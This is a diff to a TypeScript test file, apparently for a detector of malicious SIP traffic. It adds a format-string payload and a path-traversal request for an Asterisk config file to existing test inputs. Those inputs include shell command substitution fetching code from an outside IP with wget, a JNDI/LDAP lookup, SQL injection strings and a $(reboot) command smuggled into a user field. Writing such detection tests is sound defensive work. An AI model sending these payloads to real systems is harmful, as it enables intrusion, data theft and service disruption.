@@ -32,6 +32,7 @@ const injections: Record<string, string> = {
   'a shell command in the User-Agent': 'User-Agent: $(wget http://203.0.113.66/x)',
   'SQL in the User-Agent': "User-Agent: a' UNION SELECT null,null--",
   'a look-up in the Contact': 'Contact: "\x24{jndi:ldap://203.0.113.66/a}" <sip:a@b>',
+  'printf directives in the User-Agent': 'User-Agent: %n%n%n%n',
   'SQL in the credentials': `Authorization: Digest username="a' or 1=1 --", realm="a", nonce="b", uri="c", response="d"`,
 };
 
@@ -53,6 +54,7 @@ describe('one string that is to be run elsewhere is enough', () => {
     for (const fields of [
       { method: 'OPTIONS', user: '100', from: "a'%20or%20'1'='1" },
       { method: 'INVITE', user: '$(reboot)%60id%60' },
+      { method: 'OPTIONS', user: '../../../../etc/asterisk/sip.conf' },
     ]) {
       const story = new Traffic();
       story.exchange(0, attacker, fields, 404);
